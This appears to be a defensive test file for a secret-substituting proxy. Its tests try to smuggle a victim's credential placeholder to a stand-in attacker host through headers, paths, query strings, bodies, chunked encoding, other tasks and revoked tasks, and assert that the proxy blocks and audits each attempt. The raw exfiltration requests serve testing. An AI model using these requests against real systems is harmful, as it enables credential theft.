// Moving the placeholder: the agent holds a sealed placeholder for the
// victim's secret and tries to make the proxy swap the real value into a
// request to a host the secret is not bound to, in every place a request can
// carry it, or to use it from another task or after its task ended.
import assert from 'node:assert/strict';
import { after, before, type TestContext, test } from 'node:test';
import {
  ATTACKER,
  type AttackProduct,
  codeOf,
  PLAIN_ATTACKER,
  proxyAuth,
  SECRET,
  startAttackProduct,
  VICTIM,
} from './harness.ts';

let p: AttackProduct;
let token: string;
let ph: string;
let notesPh: string;

before(async () => {
  p = await startAttackProduct();
  const t = await p.task('github:GET,POST:/repos/** notes');
  token = t.token;
  const phs = await p.placeholders(t.taskId);
  ph = phs.github ?? '';
  notesPh = phs.notes ?? '';
  assert.match(ph, /^alk_ph_/);
});
after(() => p.close());

type Json = Record<string, unknown>;

/** One request to the attacker's (granted) host carrying the victim's placeholder. */
async function toAttacker(t: TestContext, raw: (host: string) => string): Promise<void> {
  t.plan(4);
  const mark = await p.mark();
  const before = p.attacker.requests.length;
  const host = `${ATTACKER}:${p.attacker.port}`;
  const res = await p.send(ATTACKER, p.attacker.port, raw(host), token);
  t.assert.equal(codeOf(res), 'ERR_PLACEHOLDER_DESTINATION');
  const e = await p.audited(
    mark,
    (e: Json) => e.kind === 'proxy.exfiltration_attempt',
    'exfiltration',
  );
  t.assert.equal(e.kind, 'proxy.exfiltration_attempt');
  t.assert.equal(p.attacker.requests.length, before, 'nothing was forwarded to the attacker');
  p.assertNoLeak(t.assert);
}

const post = (path: string, type: string, body: string) => (host: string) =>
  `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`;

test('placeholder-in-header-to-foreign-host', (t) =>
  toAttacker(
    t,
    (host) => `GET /x HTTP/1.1\r\nHost: ${host}\r\nX-Steal: ${ph}\r\nConnection: close\r\n\r\n`,
  ));

test('placeholder-in-authorization-to-foreign-host', (t) =>
  toAttacker(
    t,
    (host) =>
      `GET /x HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${ph}\r\nConnection: close\r\n\r\n`,
  ));

test('placeholder-in-query-to-foreign-host', (t) =>
  toAttacker(t, (host) => `GET /x?k=${ph} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`));

test('placeholder-in-path-to-foreign-host', (t) =>
  toAttacker(
    t,
    (host) => `GET /steal/${ph} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
  ));

test('placeholder-in-json-body-to-foreign-host', (t) =>
  toAttacker(t, post('/x', 'application/json', JSON.stringify({ key: ph }))));

test('placeholder-in-form-body-to-foreign-host', (t) =>
  toAttacker(t, post('/x', 'application/x-www-form-urlencoded', `a=1&key=${ph}`)));

test('placeholder-in-multipart-body-to-foreign-host', (t) =>
  toAttacker(
    t,
    post(
      '/x',
      'multipart/form-data; boundary=XyZ',
      `--XyZ\r\nContent-Disposition: form-data; name="key"\r\n\r\n${ph}\r\n--XyZ--\r\n`,
    ),
  ));

test('placeholder-in-text-body-to-foreign-host', (t) =>
  toAttacker(t, post('/x', 'text/plain', `here it is: ${ph} thanks`)));

test('placeholder-split-across-chunks-to-foreign-host', (t) =>
  toAttacker(t, (host) => {
    const half = Math.floor(ph.length / 2);
    const a = `{"k":"${ph.slice(0, half)}`;
    const b = `${ph.slice(half)}"}`;
    return (
      `POST /x HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n` +
      `${a.length.toString(16)}\r\n${a}\r\n${b.length.toString(16)}\r\n${b}\r\n0\r\n\r\n`
    );
  }));

test('placeholder-in-cookie-to-foreign-host', (t) =>
  toAttacker(
    t,
    (host) => `GET /x HTTP/1.1\r\nHost: ${host}\r\nCookie: s=${ph}\r\nConnection: close\r\n\r\n`,
  ));

test('placeholder-base64-encoded-to-foreign-host: an opaque transform the proxy cannot see is forwarded, but only as the placeholder', async (t) => {
  t.plan(4);
  const mark = await p.mark();
  const b64 = Buffer.from(ph).toString('base64');
  const host = `${ATTACKER}:${p.attacker.port}`;
  const res = await p.send(
    ATTACKER,
    p.attacker.port,
    `GET /x?k=${b64} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
    token,
  );
  // The proxy substitutes only the placeholder's own text: base64 of it is
  // just bytes, so the attacker learns the placeholder, which is worthless off-path.
  t.assert.equal(res?.status, 200);
  t.assert.equal(p.attacker.requests.at(-1)?.url, `/x?k=${b64}`);
  const e = await p.audited(mark, (e: Json) => e.kind === 'proxy.request', 'the forwarded request');
  t.assert.deepEqual(e.secret, { name: 'notes', version: 1 });
  p.assertNoLeak(t.assert);
});

test('placeholder-percent-encoded-to-foreign-host: an opaque transform the proxy cannot see is forwarded, but only as the placeholder', async (t) => {
  t.plan(4);
  const mark = await p.mark();
  const b64 = [...ph].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
  const host = `${ATTACKER}:${p.attacker.port}`;
  const res = await p.send(
    ATTACKER,
    p.attacker.port,
    `GET /x?k=${b64} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
    token,
  );
  // The proxy substitutes only the placeholder's own text: base64 of it is
  // just bytes, so the attacker learns the placeholder, which is worthless off-path.
  t.assert.equal(res?.status, 200);
  t.assert.equal(p.attacker.requests.at(-1)?.url, `/x?k=${b64}`);
  const e = await p.audited(mark, (e: Json) => e.kind === 'proxy.request', 'the forwarded request');
  t.assert.deepEqual(e.secret, { name: 'notes', version: 1 });
  p.assertNoLeak(t.assert);
});

test('placeholder-from-another-task', async (t) => {
  t.plan(4);
  const other = await p.task('github:GET:/repos/**');
  const mark = await p.mark();
  const before = p.victim.requests.length;
  const res = await p.send(
    VICTIM,
    p.victim.port,
    `GET /repos/echo HTTP/1.1\r\nHost: ${VICTIM}:${p.victim.port}\r\nX-Key: ${ph}\r\nConnection: close\r\n\r\n`,
    other.token,
  );
  t.assert.equal(codeOf(res), 'ERR_PLACEHOLDER_DESTINATION');
  const e = await p.audited(
    mark,
    (e: Json) => e.kind === 'proxy.exfiltration_attempt',
    'exfiltration',
  );
  t.assert.equal(e.kind, 'proxy.exfiltration_attempt');
  t.assert.equal(p.victim.requests.length, before);
  p.assertNoLeak(t.assert);
});

test('placeholder-from-plain-agent-key-without-task', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.send(
    VICTIM,
    p.victim.port,
    `GET /repos/echo HTTP/1.1\r\nHost: ${VICTIM}:${p.victim.port}\r\nX-Key: ${ph}\r\nConnection: close\r\n\r\n`,
    p.agentKey,
  );
  t.assert.equal(codeOf(res), 'ERR_PLACEHOLDER_DESTINATION');
  const e = await p.audited(
    mark,
    (e: Json) => e.kind === 'proxy.exfiltration_attempt',
    'exfiltration',
  );
  t.assert.equal(e.kind, 'proxy.exfiltration_attempt');
  p.assertNoLeak(t.assert);
});

test('placeholder-after-task-ended', async (t) => {
  t.plan(4);
  const ended = await p.task('github:GET:/repos/**');
  const endedPh = (await p.placeholders(ended.taskId)).github ?? '';
  const revoked = await p.api('POST', '/v1/revocations', { task: ended.taskId });
  t.assert.equal(revoked.status, 200);
  const mark = await p.mark();
  const res = await p.send(
    VICTIM,
    p.victim.port,
    `GET /repos/echo HTTP/1.1\r\nHost: ${VICTIM}:${p.victim.port}\r\nX-Key: ${endedPh}\r\nConnection: close\r\n\r\n`,
    token,
  );
  t.assert.equal(codeOf(res), 'ERR_PLACEHOLDER_DESTINATION');
  const e = await p.audited(
    mark,
    (e: Json) => e.kind === 'proxy.exfiltration_attempt',
    'exfiltration',
  );
  t.assert.equal(e.kind, 'proxy.exfiltration_attempt');
  p.assertNoLeak(t.assert);
});

test('placeholder-over-plain-http-to-foreign-host', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.sendPlain(
    `GET http://${PLAIN_ATTACKER}:${p.plainAttacker.port}/x?k=${ph} HTTP/1.1\r\nHost: ${PLAIN_ATTACKER}:${p.plainAttacker.port}\r\nProxy-Authorization: ${proxyAuth(token)}\r\nConnection: close\r\n\r\n`,
  );
  t.assert.equal(codeOf(res), 'ERR_DESTINATION_DENIED');
  const e = await p.audited(mark, (e: Json) => e.kind === 'proxy.denied', 'denied');
  t.assert.equal(e.code, 'ERR_DESTINATION_DENIED');
  p.assertNoLeak(t.assert);
});

test('placeholder-of-the-attacker-service-to-the-victim: the right secret for each host only', async (t) => {
  t.plan(3);
  const mark = await p.mark();
  const res = await p.send(
    VICTIM,
    p.victim.port,
    `GET /repos/echo HTTP/1.1\r\nHost: ${VICTIM}:${p.victim.port}\r\nX-Key: ${notesPh}\r\nConnection: close\r\n\r\n`,
    token,
  );
  t.assert.equal(codeOf(res), 'ERR_PLACEHOLDER_DESTINATION');
  const e = await p.audited(
    mark,
    (e: Json) => e.kind === 'proxy.exfiltration_attempt',
    'exfiltration',
  );
  t.assert.equal(e.kind, 'proxy.exfiltration_attempt');
  p.assertNoLeak(t.assert);
});

test('control: the placeholder to its own host is swapped for the real value there only', async (t) => {
  t.plan(2);
  const res = await p.send(
    VICTIM,
    p.victim.port,
    `GET /repos/echo HTTP/1.1\r\nHost: ${VICTIM}:${p.victim.port}\r\nX-Key: ${ph}\r\nConnection: close\r\n\r\n`,
    token,
  );
  t.assert.equal(res?.status, 200);
  t.assert.equal(p.victim.requests.at(-1)?.headers['x-key'], SECRET);
});
